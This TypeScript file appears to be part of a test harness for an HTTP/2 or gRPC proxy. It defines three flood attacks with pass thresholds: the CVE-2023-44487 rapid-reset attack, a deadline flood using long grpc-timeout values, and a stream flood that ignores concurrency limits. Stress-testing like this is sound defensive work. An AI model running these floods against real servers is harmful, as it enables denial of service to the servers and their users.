import type { Attack } from "../attack.ts"
import { flood } from "../flood.ts"
import { block } from "../hpack.ts"
import { request } from "../peer.ts"
import * as wire from "../wire.ts"

const HOLD = block(request("/abuse.Attack/Hold"))
const HURRIED = block(request("/abuse.Attack/Hold", [["grpc-timeout", "20m"]]))

/** How many calls go out before the first is cancelled: enough for each to have left for the backend. */
const LAG = 32

/** CVE-2023-44487: a cancelled stream is free for the client and work for everyone behind it. */
export const rapidReset: Attack[] = [
  {
    name: "rapid-reset",
    source: "CVE-2023-44487; RFC 9113 §10.5",
    how: "HEADERS, and RST_STREAM(CANCEL) as soon as the call is on its way, up to 5,000 times",
    side: "downstream",
    pace: "flood",
    counters: ["abuse_exhausted", "control_frames_queued", "unsent_octets_paused"],
    bar: {
      held: "ended before much more than 1,000 calls reach the backend",
      end: "must",
      callsMax: 1100,
      liveMax: 1000,
    },
    async run(stage) {
      const peer = await stage.connect()
      return await flood(peer, stage, {
        blow: (i) => {
          const open = wire.headers(2 * i + 1, HOLD)
          if (i < LAG) return open
          return Buffer.concat([open, wire.rstStream(2 * (i - LAG) + 1, wire.ErrorCode.CANCEL)])
        },
        framesPerBlow: 2,
        blowsMax: 5000,
      })
    },
  },
  {
    name: "deadline-flood",
    source: "CVE-2023-44487, by deadline; gRPC over HTTP/2, Timeout",
    how: "4,000 calls with grpc-timeout 20m that no backend answers in time: a proxy that keeps deadlines resets each",
    side: "downstream",
    pace: "flood",
    counters: ["cut_calls_exceeded", "streams_refused", "control_frames_queued", "unsent_octets_paused"],
    bar: {
      held: "about 1,000 calls reach the backend, and some hundred a second",
      end: "may",
      callsMax: 2000,
      liveMax: 1000,
    },
    async run(stage) {
      const peer = await stage.connect()
      return await flood(peer, stage, {
        blow: (i) => wire.headers(2 * i + 1, HURRIED),
        blowsMax: 4000,
        batch: 32,
      })
    },
  },
  {
    name: "stream-flood",
    source: "RFC 9113 §5.1.2",
    how: "5,000 calls opened on one connection and none ended, whatever SETTINGS_MAX_CONCURRENT_STREAMS says",
    side: "downstream",
    pace: "flood",
    counters: ["streams_refused", "abuse_exhausted"],
    bar: { held: "never more than 1,000 open at the backend", end: "may", callsMax: 1000, liveMax: 1000 },
    async run(stage) {
      const peer = await stage.connect()
      return await flood(peer, stage, { blow: (i) => wire.headers(2 * i + 1, HOLD), blowsMax: 5000 })
    },
  },
]
